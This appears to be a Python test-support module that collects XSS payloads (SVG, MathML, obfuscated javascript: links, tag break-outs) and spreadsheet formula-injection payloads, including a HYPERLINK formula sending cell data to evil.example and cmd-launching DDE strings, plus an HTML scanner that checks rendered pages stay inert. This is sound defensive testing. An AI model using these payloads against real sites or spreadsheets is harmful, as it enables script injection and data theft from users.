"""Hostile input shared by the security tests, and a check that a page stays inert.

XSS_PAYLOADS extends the Markdown tests' list (tests/courses/test_markdown.py) with SVG,
MathML, attribute break-outs, obfuscated `javascript:` links and tags that end a text
context (</textarea>, </title>). `inert_problems` parses a whole page and lists anything a
browser would run: a script that is not one of the site's files, an event-handler
attribute, a `javascript:`/`vbscript:`/`data:` URL, an embedded document. The site's own
pages have none of these, so any hit comes from the input.
"""

import re
from html.parser import HTMLParser

from tests.courses.test_markdown import XSS_PAYLOADS as MARKDOWN_PAYLOADS

EXTRA_PAYLOADS = [
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=href to='javascript:alert(1)'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "[x](<javascript:alert(1)>)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<video><source onerror=alert(1)>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<x onclick=alert(1)>click me</x>",
]
XSS_PAYLOADS = MARKDOWN_PAYLOADS + EXTRA_PAYLOADS

# One of each way in, for page-level scans where every payload on every page would be slow:
# a script tag; event handlers after breaking out of an attribute and a textarea; MathML
# mutation; Markdown javascript: links. Every payload goes through each function a page
# uses (test_xss.py); these prove that each field on each page goes through one of them.
PAGE_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)></textarea><svg onload=alert(1)>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![x](javascript:alert(1))",
]
# All of the above that fit one short field at once, for the (slow) admin scan.
COMBINED_PAYLOAD = (
    '"><script>alert(1)</script><img src=x onerror=alert(1)></textarea><svg onload=alert(1)>'
)

# Spreadsheets run a cell starting with one of these as a formula (OWASP "CSV injection").
FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

SITE_SCRIPT = re.compile(r"^/static/[\w./-]+\.js$|^/admin/jsi18n/$")
SITE_STYLESHEET = re.compile(r"^/static/[\w./-]+\.css$")
EMBEDDING_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "template",
    "noscript", "isindex", "portal",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "to"}
_INVISIBLE = re.compile(r"[\x00-\x20]+")


def _dangerous_url(value: str) -> bool:
    compact = _INVISIBLE.sub("", value).lower()
    return compact.startswith(("javascript:", "vbscript:", "data:", "livescript:"))


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        self._check_tag(tag, dict(attrs))
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")
        self.in_script = tag == "script"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.in_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data.strip()[:80]!r}")

    def _check_tag(self, tag: str, attrs: dict) -> None:
        if tag in EMBEDDING_TAGS:
            self.problems.append(f"<{tag}> element")
        elif tag == "script" and not SITE_SCRIPT.match(attrs.get("src") or ""):
            if attrs.get("type") != "application/json":  # json_script data is not run
                self.problems.append(f"script not from /static/: {attrs}")
        elif tag == "link" and not SITE_STYLESHEET.match(attrs.get("href") or ""):
            self.problems.append(f"<link> to {attrs.get('href')!r}")
        elif tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        elif tag == "style":
            self.problems.append("<style> element")

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.problems.append(f"<{tag} {name}=...> event handler")
        elif name == "srcdoc":
            self.problems.append(f"<{tag} srcdoc>")
        elif name in URL_ATTRIBUTES and _dangerous_url(value):
            self.problems.append(f"<{tag} {name}={value[:60]!r}>")
        elif name == "style" and re.search(r"url\(|expression\(|javascript:", value, re.I):
            self.problems.append(f"<{tag} style={value[:60]!r}>")


def inert_problems(html: str) -> list[str]:
    """Everything in `html` that a browser could run or that embeds another document."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.problems


def assert_inert(html: str, where: str = "") -> None:
    problems = inert_problems(html)
    assert not problems, f"{where}: {problems}"
